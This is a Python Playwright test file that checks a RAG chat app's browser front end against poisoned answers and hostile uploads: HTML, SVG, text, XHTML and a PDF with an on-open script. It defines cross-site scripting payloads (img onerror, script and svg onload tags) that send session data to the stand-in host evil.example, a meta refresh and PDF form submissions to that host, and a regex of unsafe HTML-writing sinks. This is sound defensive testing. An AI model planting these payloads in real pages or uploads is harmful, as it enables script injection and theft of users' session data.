"""Poisoned answers and hostile documents in a real browser: nothing of them runs, and nothing leaves."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.test_answers import PASSAGE, answering, ask, stream
from tests.browser.test_documents import upload
from tests.stand_ins.hostile_pdfs import ONE_PAGE, TEXT, pdf
from tests.stand_ins.hostile_pdfs import page as pdf_page
from tests.stand_ins.hostile_pdfs import stream as pdf_stream
from tests.stand_ins.injected_words import INJECTED

pytestmark = [pytest.mark.slow, pytest.mark.embedder]

WEB = Path(__file__).parents[2] / "web"
WRITES_HTML = re.compile(
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function|srcdoc"
    r"|createContextualFragment|setHTML|set(?:Timeout|Interval)\(\s*[\"'`]|javascript:|\bon[a-z]+\s*=\s*[\"']|DOMParser"
)
TEXT_TAGS = (
    "p",
    "pre",
    "code",
    "ul",
    "ol",
    "li",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "strong",
)
SCRIPT = "fetch('//evil.example/'+sessionStorage.length);document.title='owned';alert(1)"
MARKUP = f'<img src=//evil.example/x onerror="{SCRIPT}"><script>{SCRIPT}</script><svg onload="{SCRIPT}"/>'


@pytest.fixture
def leaving(page: Page) -> list[str]:
    """What leaves the page for a foreign host, or comes up in front of it."""
    left: list[str] = []
    own = page.url.removesuffix("/chat")

    def look(request: Any) -> None:
        if not request.url.startswith((own, f"blob:{own}", "chrome-extension:", "chrome:")):
            left.append(request.url)

    page.context.on("request", look)
    page.on("dialog", lambda dialog: (left.append(dialog.message), dialog.dismiss()))
    return left


def nothing_ran(page: Page) -> None:
    expect(page).to_have_title("RAG Functions")
    kinds = """[...document.querySelectorAll("*")]
      .filter(({ src, href, attributes }) => src || href || attributes.onerror || attributes.onload)
      .map(({ localName, src, href }) => `${localName} ${src ?? href}`)"""
    own = page.url.removesuffix("/chat")
    allowed = ("link " + own, "script " + own, f"a {own}/chat#", f"a {own}/api/docs", f"a blob:{own}")
    assert [each for each in page.evaluate(kinds) if not each.startswith(allowed)] == []


def test_no_file_of_the_page_writes_html() -> None:
    files = [file for file in WEB.rglob("*") if file.suffix in (".js", ".html", ".css")]
    ours = [file for file in files if "vendor" not in file.parts]
    found = {(file.name, match[0]) for file in ours for match in WRITES_HTML.finditer(file.read_text())}
    assert found == {("html.js", "DOMParser")}  # which is given no markup


def test_a_poisoned_answer_fetches_nothing_and_runs_nothing_in_any_prefix(
    page: Page, register: Callable[[Page], str], leaving: list[str], photograph: Callable[[Page, str], None]
) -> None:
    """Words that the server would have made harmless, as a page without that promise would get them."""
    register(page)
    text = "\n\n".join([f"Two years [1]. {MARKUP}", *INJECTED, "The end."])
    hostile = {"document": f"shared/{MARKUP}.md", "snippet": text[:300]}
    citation = PASSAGE | hostile
    answer = {"answer": text, "citations": [citation], "conversation_id": "c1", "request_id": "r1"}
    answer |= {"degraded": "extractive", "degraded_reason": MARKUP}
    events = [("context", {"conversation_id": "c1", "passages": [citation]})]
    events += [("delta", {"text": text[at : at + 5]}) for at in range(0, len(text), 5)]
    body = "".join(
        f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in [*events, ("done", answer)]
    )
    answering(page, body)
    ask(page, MARKUP)
    expect(page.locator(".answer-text")).to_contain_text("The end.")
    expect(page.locator(".answer-text").locator("a, img, svg, script, style, iframe, form")).to_have_count(0)
    photograph(page, "poisoned-answer")
    page.locator(".citation").scroll_into_view_if_needed()
    photograph(page, "poisoned-citation")
    nothing_ran(page)
    assert leaving == []


def test_no_prefix_becomes_more_than_text_in_the_page_s_own_markdown(page: Page, leaving: list[str]) -> None:
    script = """async (texts) => {
      const { blocksOf, nodeOf } = await import("/chat/markdown.js");
      const tags = new Set();
      const attributes = new Set();
      for (const text of texts) for (let end = 0; end <= text.length; end += 1) {
        for (const block of blocksOf(text.slice(0, end))) {
          const node = nodeOf(block, () => null);
          for (const each of [node, ...node.querySelectorAll("*")]) {
            tags.add(each.localName);
            for (const { name } of each.attributes) attributes.add(name);
          }
        }
      }
      return [[...tags], [...attributes]];
    }"""
    tags, attributes = page.evaluate(script, [*INJECTED, MARKUP])
    assert set(tags) <= {*TEXT_TAGS}
    assert set(attributes) <= {"class", "dir", "start", "scope", "tabindex", "role", "aria-label"}
    assert leaving == []


def test_joiners_that_are_for_other_clients_are_not_in_the_page(
    page: Page, register: Callable[[Page], str]
) -> None:
    register(page)
    answering(page, stream("Write to help@\u2060northwind.\u2060com [1]."))
    ask(page)
    expect(page.locator(".answer-text")).to_contain_text("Write to help@northwind.com")


def hostile_pdf(script: str) -> bytes:
    """With a script that runs when it is opened."""
    escaped = re.sub(r"([\\()])", r"\\\1", script).encode()
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(%b)>>>>" % escaped
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return pdf([catalog, ONE_PAGE, pdf_page(4), pdf_stream(TEXT + b"ET"), font])


def test_the_script_of_a_pdf_sees_nothing_of_the_page_and_reaches_nobody(
    page: Page, register: Callable[[Page], str], leaving: list[str]
) -> None:
    """What draws it runs no script at all."""
    register(page)
    seen = "app.alert([typeof sessionStorage, typeof document, typeof fetch, typeof XMLHttpRequest].join());"
    tries = "try{this.submitForm('http://evil.example/');}catch(e){}try{app.launchURL('http://evil.example/');}catch(e){}"
    upload(page, "hostile.pdf", hostile_pdf(f"{seen}{tries}app.alert('the end');"))
    row = page.locator(".row", has_text="hostile.pdf")
    expect(row).to_have_attribute("data-status", "indexed")
    row.get_by_role("button", name="hostile.pdf").first.click()
    expect(page.locator(".pdf-text")).to_contain_text("The pump runs for nine hours")
    expect(page.locator(".pdf canvas")).to_be_visible()
    assert leaving == []
    nothing_ran(page)


@pytest.mark.parametrize(
    ("name", "content", "shown"),
    [
        (
            "hostile.html",
            f"<p>The pump runs</p>{MARKUP}<meta http-equiv=refresh content='0;//evil.example'>".encode(),
            ".source-text",
        ),
        (
            "hostile.svg",
            f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'.encode(),
            None,
        ),
        ("hostile.txt", f"The pump runs for nine hours {MARKUP}".encode(), ".source-text"),
    ],
)
def test_a_hostile_document_runs_nothing_in_the_page(
    page: Page,
    register: Callable[[Page], str],
    leaving: list[str],
    photograph: Callable[[Page, str], None],
    name: str,
    content: bytes,
    shown: str | None,
) -> None:
    register(page)
    upload(page, name, content)
    row = page.locator(".row", has_text=name)
    expect(row).to_have_attribute("data-status", re.compile("indexed|failed"))
    if shown:
        row.get_by_role("button", name=name).first.click()
        expect(page.locator(shown)).to_be_visible()
        photograph(page, name.replace(".", "-"))
    nothing_ran(page)
    assert leaving == []


@pytest.mark.parametrize("name", ["opened.html", "opened.svg", "opened.xhtml", "opened.xml"])
def test_a_document_that_is_opened_by_its_address_is_text(
    page: Page, register: Callable[[Page], str], leaving: list[str], name: str
) -> None:
    """No browser sends the token by itself; if one did, the document would still not run in our origin."""
    register(page)
    with page.expect_response("**/api/documents*") as listed:
        upload(page, name, f'<html xmlns="http://www.w3.org/1999/xhtml">{MARKUP}</html>'.encode())
    authorization = listed.value.request.all_headers()["authorization"]
    expect(page.locator(".row", has_text=name)).to_have_attribute("data-status", re.compile("indexed|failed"))
    found = page.request.get("/api/documents", headers={"Authorization": authorization}).json()
    (document,) = [each for each in found["documents"] if each["name"].endswith(name)]
    page.set_extra_http_headers({"Authorization": authorization})
    shown = page.goto(f"/api/documents/{document['id']}/content")
    assert shown is not None
    assert shown.headers["content-type"] == "text/plain; charset=utf-8"
    assert page.locator("script, img, svg").count() == 0
    assert leaving == []
